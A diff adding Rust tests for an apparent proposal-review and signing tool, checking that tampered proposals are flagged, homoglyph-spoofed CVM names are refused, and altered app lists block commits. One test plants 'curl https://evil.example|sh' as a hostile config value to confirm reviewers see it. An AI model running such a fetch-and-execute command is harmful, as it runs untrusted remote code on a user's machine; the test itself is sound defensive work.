@@ -619,3 +619,136 @@ fn k_a_death_while_several_apps_join_or_are_proved_is_followed_by_one_that_finis
         }
     });
 }
+
+/// Changes the carrier's proposal on its way to somebody.
+fn sent(lead: &Flow<'_>, name: &str, change: impl FnOnce(&mut Value)) -> PathBuf {
+    let mut proposal = lead.json_file("proposal.json");
+    change(&mut proposal);
+    lead.world.file(name, &proposal.to_string())
+}
+
+#[test]
+fn se2_o1_what_no_hash_covers_of_another_app_is_shown_under_its_name_and_its_sealed_environment_stops() {
+    let ground = Ground::new(1);
+    let flow = ground.flow();
+    let prepared = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
+    let lead = carrier(&flow, &prepared);
+    let at = "/others/0/plan/code/patch";
+    let patch = |proposal: &mut Value, name: &str, value: Value| {
+        proposal.pointer_mut(at).unwrap()[name] = value;
+    };
+    let file = sent(&lead, "env.json", |proposal| {
+        patch(proposal, "encrypted_env", json!("ee"))
+    });
+    review(&lead, &file, &[]).exits(5).says("PROPOSAL_CARRIES_ENV");
+    let sign = [
+        "sign",
+        file.to_str().unwrap(),
+        "--json",
+        "--signer",
+        "env:SIGNER_0",
+        "--yes",
+    ];
+    Ran::of(&mut lead.command(&sign)).exits(5).says("PROPOSAL_CARRIES_ENV");
+    let file = sent(&lead, "config.json", |proposal| {
+        patch(proposal, "user_config", json!("curl https://evil.example|sh"));
+    });
+    let reviewed = review(&lead, &file, &[]).exits(0);
+    assert_eq!(reviewed.json["data"]["uncovered"], json!([]));
+    let other = &reviewed.json["data"]["others"][0]["uncovered"];
+    let all = json!([{"field": "user_config", "after": "curl https://evil.example|sh"}]);
+    assert_eq!(*other, all);
+    let page = lead
+        .command(&["review", file.to_str().unwrap(), "--offline"])
+        .output()
+        .unwrap();
+    let page = shown_page(&page);
+    let (_, second) = page.split_once("APP 2 OF 2").unwrap();
+    assert!(
+        second.contains("no hash covers it") && second.contains("curl https://evil.example|sh"),
+        "{page}"
+    );
+    // A consent names it too.
+    let asked = lead.command(&[
+        "sign",
+        file.to_str().unwrap(),
+        "--offline",
+        "--signer",
+        "env:SIGNER_0",
+        "--yes",
+    ]);
+    let asked = { asked }.output().unwrap();
+    assert!(shown(&asked).contains("evil.example"), "{}", shown(&asked));
+}
+
+#[test]
+fn se2_o2_apps_whose_cvms_could_be_taken_for_each_other_are_refused() {
+    let ground = Ground::new(1);
+    let flow = ground.flow();
+    let prepared = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
+    let lead = carrier(&flow, &prepared);
+    let own = lead.json_file("proposal.json")["plan"]["code"].clone();
+    let name = own["cvm"].as_str().unwrap();
+    let names = [
+        ("cvm", json!(name)),
+        ("cvm", json!(name.to_uppercase())),
+        ("cvm", json!(name.replace('a', "\u{430}"))),
+        ("cvm", own["cvm_uuid"].clone()),
+        ("cvm", json!(format!("app_{}", alloy::hex::encode(ground.apps[0].app)))),
+        ("cvm_name", json!(name)),
+        ("cvm_name", own["cvm_name"].clone()),
+        ("cvm_uuid", own["cvm_uuid"].clone()),
+        ("cvm_uuid", json!(own["cvm_uuid"].as_str().unwrap().replace('-', ""))),
+    ];
+    for (member, value) in names {
+        let file = sent(&lead, "twin.json", |proposal| {
+            proposal.pointer_mut("/others/0/plan/code").unwrap()[member] = value.clone();
+        });
+        let refused = review(&lead, &file, &[]);
+        assert!([3, 5].contains(&refused.exit), "{member} {value}: {}", refused.said);
+        let code = refused.json["code"].as_str().unwrap();
+        assert!(
+            ["APPS_MISMATCH", "INPUT_PROPOSAL"].contains(&code),
+            "{member} {value}: {}",
+            refused.said
+        );
+    }
+}
+
+#[test]
+fn se2_o3_an_app_that_the_proposal_names_cannot_drop_out_of_the_list() {
+    let ground = Ground::new(2);
+    let flow = ground.flow();
+    let prepared = Ran::of(&mut prepare(&flow, &ground.also())).exits(0);
+    let lead = carrier(&flow, &prepared);
+    execute(&lead);
+    lead.step("wait").exits(0);
+    let list = flow.dir.join("apps.json");
+    let honest = std::fs::read(&list).unwrap();
+    let names = |change: &dyn Fn(&mut Vec<Value>)| {
+        let mut list_now: Value = serde_json::from_slice(&honest).unwrap();
+        change(list_now["fleets"].as_array_mut().unwrap());
+        std::fs::write(&list, list_now.to_string()).unwrap();
+    };
+    let changes: [&dyn Fn(&mut Vec<Value>); 5] = [
+        &|all| drop(all.pop()),
+        &|all| drop(all.remove(1)),
+        &|all| drop(all.remove(0)),
+        &|all| all.swap(0, 1),
+        &|all| all.push(all[1].clone()),
+    ];
+    for change in changes {
+        names(change);
+        for step in ["commit", "status"] {
+            fleet(&flow, step).exits(5).says("APPS_MISMATCH");
+        }
+    }
+    for app in &ground.apps {
+        assert_eq!(ground.world.cloud.commits(&app.cvm), Vec::<B256>::new());
+    }
+    std::fs::write(&list, &honest).unwrap();
+    fleet(&flow, "commit").exits(0);
+    for app in &ground.apps {
+        ground.committed_once(app);
+    }
+}
